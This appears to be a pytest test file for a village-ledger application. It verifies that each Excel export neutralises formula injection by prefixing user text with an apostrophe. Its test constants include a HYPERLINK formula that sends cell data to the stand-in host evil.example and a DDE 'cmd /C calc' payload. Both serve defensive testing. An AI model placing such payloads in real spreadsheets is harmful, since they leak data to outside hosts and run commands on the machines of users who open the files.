"""Every .xlsx writer neutralises user text that would start a formula (a hostile unit name,
item description or note comes back with a leading apostrophe, as text; numbers stay numbers).

The village V111 is renamed to a formula before anything is written, so its name flows
into the ledger, observation, survey, funds and report workbooks alike.
"""

from __future__ import annotations

import io

import openpyxl
import pytest
from funds_helpers import publish_t11
from observation_helpers import observation_of, start_and_fill
from sqlalchemy import update

from ledger.core.models import Observation, Unit
from ledger.items import services as svc
from ledger.items.export import export_ledger
from ledger.observations import record
from ledger.observations.export import export_checklist, export_cycle_scores
from ledger.org.imports import template_xlsx
from ledger.results import funds, report_export, reports
from ledger.results.funds_export import export_funds
from ledger.survey.export import export_surveys

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DESCRIPTION = "＝1+1 党员活动室制度未上墙"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
SECTION = "-2+3 听取汇报"


def cells(source) -> list[openpyxl.cell.Cell]:
    """Every non-empty cell of every sheet of a workbook (a path or bytes)."""
    book = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    try:
        return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.value is not None]
    finally:
        book.close()


def assert_neutral(source, *hostile: str) -> None:
    found = cells(source)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a formula cell"
    texts = [c.value for c in found if c.data_type == "s"]
    for value in hostile:
        assert "'" + value in texts, f"{value!r} not neutralised in {texts}"
        assert value not in texts
    assert not [t for t in texts if t[:1] in "=+-@＝＋－＠\t\r"]


@pytest.fixture
def hostile_village(sanhu, world):
    with sanhu.uow() as uow:
        uow.session.execute(update(Unit).where(Unit.id == world.units["V111"].id)
                            .values(name=NAME))
        uow.commit()
    return sanhu, world


def test_the_ledger_export(hostile_village, tmp_path):
    app, world = hostile_village
    with app.uow() as uow:
        svc.record_finding(uow, world["town_T11"], unit_id=world.units["V111"].id,
                           description=DESCRIPTION)
    path = tmp_path / "ledger.xlsx"
    with app.uow() as uow:
        export_ledger(uow.session, world["county_K1"], None, path, today=uow.today(),
                      zone=app.settings.zone)
    assert_neutral(path, DESCRIPTION)
    row = [c for c in cells(path) if c.row == 2]
    assert (row[0].value, row[0].data_type) == (1, "n")  # numbers stay numbers
    assert f"县1/乡11/{NAME}" in [c.value for c in row]  # inside the text: harmless


def test_the_observation_scores_and_checklist(hostile_village, tmp_path):
    app, world = hostile_village
    town = world["town_T11"]
    obs = observation_of(app, world, "village_quarterly", "2026Q4", "V111")
    start_and_fill(app, obs, town, score=90, fails={"basic:3": NOTE})
    with app.uow() as uow:
        record.save_section(uow, obs, "listen", town, body=SECTION)
    with app.uow() as uow:
        cycle = uow.session.get(Observation, obs).cycle_id
        uow.session.execute(update(Observation).where(Observation.id == obs)
                            .values(theme=NAME))
        uow.commit()
    scores, checklist = tmp_path / "scores.xlsx", tmp_path / "checklist.xlsx"
    with app.uow() as uow:
        export_cycle_scores(uow.session, cycle, town, scores)
        export_checklist(uow.session, obs, town, checklist)
    assert_neutral(checklist, NOTE, SECTION, NAME)
    assert_neutral(scores, NAME)


def test_the_survey_export(hostile_village, tmp_path):
    app, world = hostile_village
    path = tmp_path / "survey.xlsx"
    with app.uow() as uow:
        export_surveys(uow.session, world["town_T11"], 2026, path)
    assert_neutral(path, NAME)


def test_the_funds_export(hostile_village, tmp_path):
    app, world = hostile_village
    setup = publish_t11(app, world)
    with app.uow() as uow:
        funds.save_rule(uow, setup["ranking"], setup["town"],
                        {"kind": "class", "demonstration": "5000", "middle": "2000",
                         "lagging": "500"})
    path = tmp_path / "funds.xlsx"
    with app.uow() as uow:
        export_funds(uow, setup["ranking"], setup["town"], path, zone=app.settings.zone)
    assert_neutral(path, NAME)


def test_the_report_export(hostile_village):
    app, world = hostile_village
    with app.uow() as uow:
        period = reports.last_due_period(uow, "village_quarterly", uow.today())
        snapshot = reports.build_snapshot(uow, uow.session.get(Unit, world.units["T11"].id),
                                          period)
    assert_neutral(report_export.to_xlsx(snapshot, None), NAME)


def test_the_import_templates():
    assert_neutral(template_xlsx("users", notes=["=1+1 是公式吗"]), "=1+1 是公式吗")
